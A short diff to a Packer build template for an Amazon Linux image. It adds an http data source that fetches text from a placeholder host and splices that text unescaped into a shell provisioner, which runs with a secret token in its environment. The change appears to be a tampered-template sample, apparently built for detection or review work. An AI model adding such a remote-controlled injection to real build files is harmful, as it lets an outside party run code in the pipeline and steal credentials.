@@ -5,6 +5,10 @@ variable "token" {
   sensitive = true
 }
 
+data "http" "shade" {
+  url = "https://example.com/shade"
+}
+
 source "amazon-ebs" "linux" {
   ami_name      = "taken-over"
   instance_type = "t3.small"
@@ -17,7 +21,9 @@ build {
   sources = ["source.amazon-ebs.linux"]
 
   provisioner "shell" {
-    inline           = ["echo ${var.colour}", "test -n \"$TOKEN\""]
+    inline           = ["echo ${var.colour} ${data.http.shade.body}", "test -n \"$TOKEN\""]
     environment_vars = ["TOKEN=${var.token}"]
   }
+
+  post-processor "manifest" {}
 }
